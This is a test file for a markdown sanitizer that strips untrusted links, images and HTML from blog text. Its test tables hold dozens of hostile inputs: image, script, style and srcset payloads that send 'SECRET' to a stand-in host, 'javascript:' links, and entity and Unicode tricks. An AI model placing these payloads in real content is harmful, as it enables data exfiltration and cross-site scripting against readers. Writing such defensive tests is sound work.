import { renderMarkdownToHtml } from "@blogsvc/client/markdown";
import MarkdownIt from "markdown-it";
import { expect, it } from "vitest";
import { safeMarkdown, safeText } from "../../../worker/domains/models/budget/safe-markdown";
import { xssVectors } from "../../client/markdown/xss-vectors";

const allowed = {
  siteUrl: "https://www.acme.example",
  links: ["https://source.example/report?year=2026#top"],
};
const evil = "https://evil.example/?d=SECRET";

const attacks: Record<string, string> = {
  image: `Before ![x](${evil}) after.`,
  "image of our own site": "Before ![x](/logo.png?d=SECRET) after.",
  "image by reference": `![x][e]\n\n[e]: ${evil}`,
  "image by collapsed reference": `![e][]\n\n[e]: ${evil} "t"`,
  "image by shortcut reference": `![e]\n\n[e]: <${evil}>`,
  "image in a link": `[![x](${evil})](/guide)`,
  "link in a link's words": `[a [b](${evil}) c](/guide)`,
  "image with brackets in its words": `![a [b] ![c](${evil}) d](${evil})`,
  "image with line breaks": `![x\ny](\n${evil}\n"t")`,
  "image in a table": `| a | b |\n|---|---|\n| ![x](${evil}) | c |`,
  "image in a list in a quote": `> - 1\n>   - ![x](${evil})`,
  "image in a heading": `## Title ![x](${evil})`,
  "image in a footnote": `Text[^1].\n\n[^1]: Note ![x](${evil})`,
  "image in a footnote that nothing refers to": `Text.\n\n[^1]: ![x](${evil})`,
  "image in a footnote in a list": `- Text.\n\n  [^1]: ![x](${evil})`,
  "HTML in a footnote that nothing refers to": `Text.\n\n[^1]: <img src="${evil}">`,
  "link in a footnote that nothing refers to": `Text.\n\n[^1]: <${evil}> and [x](${evil}).`,
  "HTML in an indented line after a definition": `[e]: /guide\n    <img src="${evil}">`,
  "link in a footnote": `Text[^1].\n\n[^1]: Note [x](${evil}).`,
  "image by entities": `&#33;[x](${evil}) and &excl;[x](${evil})`,
  "address by entities": `![x](&#104;ttps&colon;//evil.example/?d=SECRET)`,
  "address with escapes": `![x](https\\://evil.example/?d=SECRET)`,
  "scheme-relative image": "![x](//evil.example/?d=SECRET)",
  "backslashes for slashes": "[x](\\\\\\\\evil.example/?d=SECRET) ![x](/\\\\evil.example/?d=SECRET)",
  "data image": "![x](data:image/png;base64,iVBORw0KGgo=)",
  "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "script link": "[x](javascript:fetch('//evil.example/?d=SECRET'))",
  "script link by entities": "[x](java&#10;script&colon;alert(1)) [x](&#x6A;avascript:alert(1))",
  "other schemes": "[a](mailto:evil@evil.example?body=SECRET) [b](tel:123) [c](ftp://evil.example/SECRET)",
  autolink: `See <${evil}> now.`,
  "autolink of an address for mail": "Write <evil@evil.example> now.",
  "bare address": `See ${evil} now.`,
  "bare address with www": "See www.evil.example/?d=SECRET now.",
  "link to a stranger": `[the guide](${evil})`,
  "user name before our host": "[x](https://www.acme.example@evil.example/?d=SECRET)",
  "our host with a user name": "[x](https://SECRET@www.acme.example/)",
  "our host as a prefix": "[x](https://www.acme.example.evil.example/?d=SECRET)",
  "ideographic stop": "[x](https://evil。example/?d=SECRET)",
  "full-width letters": "[x](https://ｅｖｉｌ.example/?d=SECRET)",
  "given page with another query": "[x](https://source.example/report?year=2026&d=SECRET)",
  "zero-width characters": `!\u200b[x](${evil}) !\u2060[x](${evil}) \u202e![x](${evil})`,
  "img element": `<img src="${evil}">`,
  "srcset only": `<img srcset="${evil} 1x, ${evil} 2x">`,
  picture: `<picture><source srcset="${evil}"><img alt="x"></picture>`,
  "video poster": `<video poster="${evil}" src="${evil}"></video>`,
  "style element": `<style>body{background:url(${evil})}</style>`,
  "style attribute": `<p style="background:url(${evil})">x</p>`,
  "old attributes": `<table background="${evil}"><tr><td>x</td></tr></table>`,
  "link element": `<link rel="stylesheet" href="${evil}">`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${evil}">`,
  svg: `<svg><image href="${evil}"/><use href="${evil}#x"/></svg>`,
  form: `<form action="${evil}"><button>x</button></form>`,
  "iframe with srcdoc": `<iframe srcdoc="&lt;img src=${evil}&gt;"></iframe>`,
  "script element": `<script>fetch("${evil}")</script>`,
  "unclosed script": `a <script src="${evil}"> b`,
  "HTML that opens an image when it is gone": `!<b></b>[x](${evil}) !<!-- -->[x](${evil})`,
  "HTML within a word of an image": `!<i>[x]</i>(${evil})`,
  "image that opens an image when it is gone": `!![a](${evil})[x](${evil})`,
  "comment with an image": `<!-- --> ![x](${evil}) <!-- -->`,
  "HTML by numeric entities in HTML": `<p>&lt;img src=${evil}&gt;</p>`,
  "code that ends early": `\`\`\`\ncode\n\`\`\`\n![x](${evil})`,
  "reference that is defined twice": `![x][E]\n\n[e]: /guide\n[E]: ${evil}`,
  "title with an image": `[x](/guide "![y](${evil})") ![x](/guide '<img src=${evil}>')`,
};

const commonMark = new MarkdownIt("commonmark");

/** What a reader's browser would load or follow, on a site that renders with ours or without footnotes. */
function loads(markdown: string): string[] {
  const html = renderMarkdownToHtml(markdown) + commonMark.render(markdown);
  const elements = html.match(/<(?:img|picture|source|video|audio|iframe|svg|style|script)\b/g) ?? [];
  const links = [...html.matchAll(/ href="([^"]*)"/g)].flatMap(([, href = ""]) =>
    /^(?:https:\/\/www\.acme\.example\/|https:\/\/source\.example\/report\?year=2026#top$|\/(?![/\\])|#)/.test(
      href,
    )
      ? []
      : [href],
  );
  return [...elements, ...links];
}

/** The same, with what another renderer would have to work with. */
function leaks(markdown: string): string[] {
  const source = markdown.replace(/`[^`]*`/g, "`");
  const raw =
    source.match(
      /(?<!\\)<(?:[a-z][a-z0-9-]*(?:\s[^<>`]*)?\/?|!--[^>]*)>|(?<!\\)!\[|\]\((?!\/guide|https:\/\/(?:www\.acme|source)\.)/gi,
    ) ?? [];
  return [...loads(markdown), ...raw];
}

it.each(Object.entries(attacks))("takes out of a body: %s", (_name, attack) => {
  const safe = safeMarkdown(`First.\n\n${attack}\n\nLast.`, allowed);
  expect(leaks(safe)).toEqual([]);
  expect(safe).toContain("First.");
  expect(safeMarkdown(safe, allowed)).toBe(safe);
});

it.each(Object.entries(attacks))("takes out of a line of text: %s", (_name, attack) => {
  const safe = safeText(attack, allowed);
  expect(leaks(safe)).toEqual([]);
  expect(safeText(safe, allowed)).toBe(safe);
});

it("takes everything out of what attacks renderers", () => {
  for (const vector of xssVectors) {
    expect(loads(safeMarkdown(vector, allowed)), vector).toEqual([]);
    expect(loads(safeText(vector, allowed)), vector).toEqual([]);
  }
});

/** Pairs of sections that are harmless alone and unsafe together. */
const pairs: Record<string, [string, string]> = {
  "an image and its definition": ["Text ![x][e].", `[e]: ${evil}`],
  "a definition and its image": [`[e]: ${evil}`, "Text ![x][e]."],
  "a link and its definition after text": ["Text [e].", `Text.\n\n[e]: <${evil}> "t"`],
  "an image and a definition of our own site": ["Text ![x][e].", "[e]: /logo.png?d=SECRET"],
  "an image and a definition in a quote": ["- ![x][e]", `> [e]: ${evil}`],
  "an image and what is only a definition without footnotes": ["Text ![^e].", `[^e]: ${evil}`],
  "an image and a definition in code that is never closed": [
    "Text ![x][e].\n\n```\ncode",
    `\`\`\`\n[e]: ${evil}`,
  ],
  "code that is never closed, and its end before an image": ["Text.\n\n```\ncode", `\`\`\`\n\n![x](${evil})`],
  "tildes that are never closed, and their end before HTML": [
    "Text.\n\n~~~~\ncode",
    `~~~~\n\n<img src="${evil}">`,
  ],
  "code that is never closed in an indented fence": ["Text.\n\n   ```js\n```js", `\`\`\`\n\n![x](${evil})`],
};

it.each(Object.entries(pairs))("takes out what only shows when parts are joined: %s", (_name, parts) => {
  const joined = parts.map((part) => safeMarkdown(part, allowed)).join("\n\n## Heading\n\n");
  expect(loads(joined)).toEqual([]);
  expect(joined).toContain("## Heading");
  expect(renderMarkdownToHtml(joined)).toContain("<h2");
  for (const part of parts)
    expect(safeMarkdown(safeMarkdown(part, allowed), allowed)).toBe(safeMarkdown(part, allowed));
});

it("keeps the definitions that the edited text had, for the rest of its post", () => {
  const given = "See [the docs][d].\n\n[d]: https://docs.example/a\n[f]: https://docs.example/b";
  expect(safeMarkdown(`Better. ${given}`, { ...allowed, given })).toBe(`Better. ${given}`);
  expect(safeMarkdown(`Better. ${given}\n[e]: ${evil}`, { ...allowed, given })).not.toContain("evil.example");
});

const plain = [
  "# Title\n\nText with `![code](https://evil.example)`, *emphasis*, and [our guide](/guide).",
  "* a\n* b\n\n1) c\n\n[site](https://www.acme.example/a?b=c#d) and [a report](https://source.example/report?year=2026#top)",
  '```html\n<img src="https://evil.example">\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  "5 < 6 and 7 > 6, a!b, AT&T, Array<string> and f(x)[0]",
];

it.each(plain)("leaves as it is, letter by letter: %j", (markdown) => {
  expect(safeMarkdown(markdown, allowed)).toBe(markdown);
});

it("keeps the words, tables, code and allowed links around what it takes out", () => {
  const markdown = `## Plan\n\nSee [the guide](/guide), [more](${evil}) and [a report](https://source.example/report?year=2026#intro).<br>
Next ![x](${evil})line with <b>weight</b> and Array<string>.\n\n| a | b |\n| --- | :-: |\n| 1 | \`x\` |\n\n\`\`\`ts\nconst a = 1;\n\`\`\`\n\n- [x] done\n- open`;
  expect(safeMarkdown(markdown, allowed)).toBe(
    "## Plan\n\nSee [the guide](/guide), more and [a report](https://source.example/report?year=2026#top).\\\nNext line with **weight** and Array\\<string>.\n\n| a |  b  |\n| - | :-: |\n| 1 | `x` |\n\n```ts\nconst a = 1;\n```\n\n- [x] done\n- open",
  );
});

it("lets an edit keep what the edited text had, and nothing else", () => {
  const given = `![plan](https://cdn.example/plan.png) <kbd>Esc</kbd> [docs](https://docs.example/a)`;
  const same = { ...allowed, given };
  expect(safeMarkdown(`Better: ${given}`, same)).toBe(`Better: ${given}`);
  expect(safeMarkdown(`Better: ${given} ![x](${evil})`, same)).toBe(
    "Better: Esc [docs](https://docs.example/a)",
  );
});
